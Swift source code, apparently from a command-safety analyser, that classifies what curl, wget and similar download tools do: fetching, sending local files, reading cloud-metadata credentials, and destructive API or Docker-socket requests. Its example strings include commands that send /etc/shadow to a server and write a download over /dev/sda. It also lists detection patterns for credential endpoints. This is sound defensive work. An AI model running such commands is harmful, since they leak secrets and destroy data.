/// Downloads.
enum FetchingPrograms {
    static let table: [ProgramSpec] = [
        ProgramSpec(
            "curl", options: curlOptions,
            examples: ["curl -fsSL https://x/y -o /tmp/y -> fetch to /tmp/y", "curl -d @/etc/shadow https://x -> fetch, change, send /etc/shadow", "curl -so /dev/sda http://x -> fetch to /dev/sda"]
        ) { $0.curl() },
        ProgramSpec("wget", options: wgetOptions, examples: ["wget -qO- https://x -> fetch", "wget -O /etc/passwd http://x -> fetch to /etc/passwd"]) { $0.wget() },
        ProgramSpec(
            "aria2c axel lynx links w3m elinks http https httpie xh lwp-request GET POST HEAD fetch youtube-dl yt-dlp",
            options: "-o/--out/--output:writes -d/--dir= -O= -P= -s= -x= -j= -q -dump --download"
        ) { r in
            if r.words.contains(where: { $0.hasPrefix("--on-") }) { r.add(.runUnknown(source: "\(r.call.program) runs a program when it is done")) }
            r.add(.fetch(from: r.operands.last ?? .unknown, to: r.value("-o", "-O")))
            for operand in r.operands where operand.prefix.hasPrefix("@") { r.add(.send(operand.dropping("@"), to: r.operands.first ?? .unknown)) }
        },
    ]

    private static let curlOptions =
        "-o/--output= -O/--remote-name -d/--data/--data-ascii= --data-binary= --data-raw= --data-urlencode= -F/--form= --form-string= -T/--upload-file= -H/--header= -X/--request= -u/--user= -A/--user-agent= -e/--referer= -b/--cookie= -c/--cookie-jar= -K/--config= -x/--proxy= -w/--write-out= -m/--max-time= --connect-timeout= --retry= --retry-delay= --retry-max-time= --cacert= --capath= -E/--cert= --key= --resolve= --connect-to= --unix-socket= -r/--range= -z/--time-cond= --limit-rate= -C/--continue-at= -D/--dump-header:writes --trace:writes --trace-ascii:writes --stderr:writes --output-dir= --url= -y= -Y= --interface= --dns-servers= --max-filesize= --json= --netrc-file= --oauth2-bearer= --pass= --pinnedpubkey= --proto= --proto-redir= -Q= -t= --tls-max= --ciphers= -U= --variable= --noproxy= --max-redirs= -P= -f -s -S -L -k/--insecure -i -I -v -G -g -j -J -n -N -q -R -4 -6 -# --compressed --fail --silent --show-error --location"
    private static let wgetOptions =
        "-O/--output-document= -o/--output-file:writes -a/--append-output:appends -P/--directory-prefix= -i/--input-file= -t/--tries= -T/--timeout= -U/--user-agent= --header= --post-data= --post-file= --body-file= --body-data= --method= --user= --password= --ca-certificate= --certificate= --private-key= -e/--execute= -Q= -w/--wait= --use-askpass:code -l= -A= -R= -D= -I= -X= -B= --limit-rate= --secure-protocol= --config= --connect-timeout= --read-timeout= --dns-timeout= --referer= --load-cookies= --save-cookies:writes --http-user= --http-password= --bind-address= --progress= --spider -q -c -N -nc -nv -r -m -p -k -x -nd -S -b -4 -6 --no-check-certificate --content-disposition"

    /// Whether the call brings something from the network to its output.
    static func fetches(_ call: Call) -> Bool {
        if [
            "curl", "wget", "fetch", "aria2c", "lynx", "links", "w3m", "http", "https", "GET", "lwp-request", "ftp", "tftp", "nc", "ncat", "netcat", "socat", "telnet", "scp", "dig", "host",
            "nslookup", "svn", "git",
        ].contains(call.program) {
            return true
        }
        if case .socket = call.input { return true }
        return call.inputIsFetched
    }
}

extension Call {
    fileprivate var inputIsFetched: Bool { if case .calls(let calls) = input { calls.contains(where: FetchingPrograms.fetches) } else { false } }
}

extension Reading {
    private var metadataHosts: [String] { ["169.254.169.254", "metadata.google.internal", "169.254.170.2", "100.100.100.200", "fd00:ec2::254", "metadata/instance", "metadata/identity"] }

    private mutating func urls(_ urls: [Value], to: Value?) {
        for url in urls.isEmpty ? [Value.unknown] : urls {
            add(.fetch(from: url, to: to))
            let text = url.allText.lowercased()
            // The token that the questions for plain facts need too.
            if text.hasSuffix("/latest/api/token") { continue }
            if metadataHosts.contains(where: text.contains),
                ["security-credentials", "/token", "user-data", "identity", "credentials", "service-accounts", "ssh-keys"].contains(where: text.contains) || text.contains("169.254.170.2")
            {
                add(.secret(what: "\(call.program) prints the machine's cloud credentials"))
            }
            if url.prefix.hasPrefix("file:") {
                let path = String(url.prefix.dropFirst("file:".count).drop { $0 == "/" })
                add(.read(Value("/" + path), prints: true))
            }
        }
    }

    fileprivate mutating func curl() {
        var urls = operands + values("--url")
        let server = urls.first ?? .unknown
        if let config = value("-K") { add(.runUnknown(source: "curl reads its options from \(config.display)")) }
        var sends = false
        for option in ["-d", "--data-binary", "--data-urlencode", "--json", "-F", "-H"] {
            for data in values(option) {
                let text = data.allText
                // `@file`, `name=@file`, `name=<file`.
                if let mark = text.firstIndex(of: "@"), mark == text.startIndex || option == "-F" || option == "--data-urlencode",
                    mark == text.startIndex || text[text.index(before: mark)] == "=" || option == "--data-urlencode"
                {
                    let file = String(text[text.index(after: mark)...].prefix { $0 != ";" })
                    if file == "-" { sendsInput(to: server) } else if option != "-H" || file.hasPrefix("/") { add(.send(text.contains("\u{0}") ? .unknown : Value(file), to: server)) }
                } else if option == "-F", let mark = text.firstRange(of: "=<") {
                    add(.send(Value(String(text[mark.upperBound...])), to: server))
                }
                sends = sends || option != "-H"
            }
        }
        for file in values("-T") {
            if file.known == "-" || file.known == "." { sendsInput(to: server) } else { add(.send(file, to: server)) }
            sends = true
        }
        if sends || has("--data-raw", "--form-string") || ["POST", "PUT", "DELETE", "PATCH"].contains(value("-X")?.known ?? "") { apiCall(urls) }
        let outputs = values("-o")
        if has("-O") || has("-J") {
            self.urls(urls, to: value("--output-dir")?.child("file") ?? Value("file"))
        } else if let output = outputs.last, output.known != "-", output.known != "/dev/null", output.known != "/dev/stdout" {
            let directory = value("--output-dir")
            self.urls(urls, to: directory.flatMap { place in output.known.map { place.child($0) } } ?? output)
            if outputs.count > 1 { for other in outputs.dropLast() where other.known != "/dev/null" { add(.fetch(from: .unknown, to: other)) } }
        } else {
            urls.removeAll { $0.known?.isEmpty ?? false }
            self.urls(urls, to: nil)
        }
        if let socket = value("--unix-socket")?.known, socket.contains("docker.sock") || socket.contains("containerd"), sends || value("-X") != nil {
            add(.container(what: "curl talks to the docker socket", isDestructive: true))
        }
    }

    /// Requests that change something at a well-known service.
    private mutating func apiCall(_ urls: [Value]) {
        let method = value("-X", "--method")?.known ?? "POST"
        let text = urls.map(\.allText).joined().lowercased()
        if method == "DELETE", text.contains(":9200") || text.contains("/_all") || text.contains(":5984") || text.contains(":8500") || text.contains("/indices") {
            add(.database(what: "\(call.program) deletes at \(urls.first?.display ?? "")", isDestructive: true))
        } else if text.contains("_delete_by_query") || text.contains("/_shutdown") || text.contains("/api/v1/admin/tsdb/delete") {
            add(.database(what: "\(call.program) deletes at \(urls.first?.display ?? "")", isDestructive: true))
        } else if method == "DELETE", text.contains("/api/v1/namespaces") || text.contains("/containers/") || text.contains("/v1/job") {
            add(.container(what: "\(call.program) deletes at \(urls.first?.display ?? "")", isDestructive: true))
        } else {
            add(.change(what: "sends a request"))
        }
    }

    /// What comes in goes to the network: what the calls before it read.
    mutating func sendsInput(to server: Value) {
        switch call.input {
        case .file(let file): add(.send(file, to: server))
        case .calls(let calls):
            for before in calls {
                for effect in Programs.effects(of: before).effects {
                    switch effect {
                    case .read(let path, prints: true): add(.send(path, to: server))
                    case .pack(let path, let archive) where archive.known == "-": add(.send(path, to: server))
                    default: break
                    }
                }
            }
        case .text, .nothing, .socket: break
        }
    }

    fileprivate mutating func wget() {
        let server = operands.first ?? .unknown
        for file in values("--post-file") + values("--body-file") {
            add(.send(file, to: server))
            apiCall(operands)
        }
        if let file = value("-i") { add(.read(file, prints: false)) }
        if let command = value("-e")?.known, command.contains("use_askpass") { addShell(Value(command), by: "wget") }
        if has("--spider") { return urls(operands, to: nil) }
        if let output = value("-O") {
            if output.known == "-" || output.known == "/dev/null" || output.known == "/dev/stdout" { return urls(operands, to: nil) }
            return urls(operands, to: output)
        }
        let name = operands.last?.known?.split(separator: "/").last.map(String.init)
        urls(operands, to: (value("-P") ?? Value(".")).child(name ?? "file"))
    }
}
